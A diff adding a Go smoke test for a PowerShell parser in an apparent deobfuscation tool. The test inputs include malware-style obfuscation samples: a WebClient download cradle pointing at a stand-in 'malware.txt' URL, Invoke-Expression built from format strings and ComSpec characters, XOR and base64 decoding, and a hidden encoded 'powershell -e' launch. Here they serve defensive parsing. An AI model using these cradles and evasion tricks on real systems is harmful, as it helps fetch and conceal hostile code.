@@ -1,0 +1,38 @@
+package psparser
+
+import (
+	"testing"
+
+	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
+)
+
+// TestParseSmoke dumps parse trees for representative scripts; real
+// assertions live in parser_test.go.
+func TestParseSmoke(t *testing.T) {
+	inputs := []string{
+		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
+		`Invoke-Expression (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
+		`( '99S5i46' -SPLIT'~' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B') })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
+		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
+		"foreach ($i in 1..10) { $s += $i }",
+		". ($pshome[4]+$pshome[30]+'x') 'write-host hi'",
+		"@{a = 1; b = 'two'}",
+		"function foo($x) { return $x * 2 }",
+		"\"value: $(1+2) and $env:USERNAME\"",
+		"[TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))",
+		"powershell -e aABlAGwAbABvAA== -nop -w hidden",
+		"'a'+'b'+'c' | out-null",
+		"$x = \"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'",
+		"do { $i++ } while ($i -lt 3)",
+		"try { 1 } catch [System.Exception] { 2 } finally { 3 }",
+		"switch ($x) { 1 { 'one' } default { 'other' } }",
+	}
+	for _, in := range inputs {
+		sb, err := Parse(in)
+		if err != nil {
+			t.Errorf("Parse(%q): %v", in, err)
+			continue
+		}
+		t.Logf("INPUT %q\n%s", in, psast.Dump(sb, in))
+	}
+}
